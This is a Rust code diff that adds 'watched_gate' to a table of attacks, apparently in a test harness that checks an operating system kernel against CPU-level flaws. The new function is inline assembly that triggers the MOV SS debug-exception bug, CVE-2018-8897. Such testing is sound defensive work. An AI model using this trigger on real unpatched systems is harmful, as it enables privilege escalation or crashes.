@@ -54,6 +54,7 @@ pub static ATTACKS: &[(&str, Attack)] = &[
     ("gate-offset", gate_offset),
     ("shadowed-gate", shadowed_gate),
     ("shadowed-return", shadowed_return),
+    ("watched-gate", watched_gate),
     ("flags", flags),
     ("flag", flag),
     ("leaks", leaks),
@@ -355,6 +356,23 @@ fn shadowed(selector: u16) -> u64 {
         )
     };
     0
+}
+
+/// Loads SS from `address`, which somebody watches, and calls a gate right behind that: the debug exception for the load is
+/// held back until the gate was entered (CVE-2018-8897).
+fn watched_gate(address: u64) -> u64 {
+    let target = [0u16, 0, selector_of(0)];
+    let result: u64;
+    // SAFETY: none.
+    unsafe {
+        asm!(
+            "mov word ptr [rcx], 1", // the null selector that ring 1 has in SS
+            "mov ss, word ptr [rcx]",
+            ".byte 0xff, 0x18",
+            inout("rax") target.as_ptr() as u64 => result, inout("rcx") address => _, clobber_abi("C")
+        )
+    };
+    result
 }
 
 /// Sets one flag, calls a gate, and returns the flags it has then.
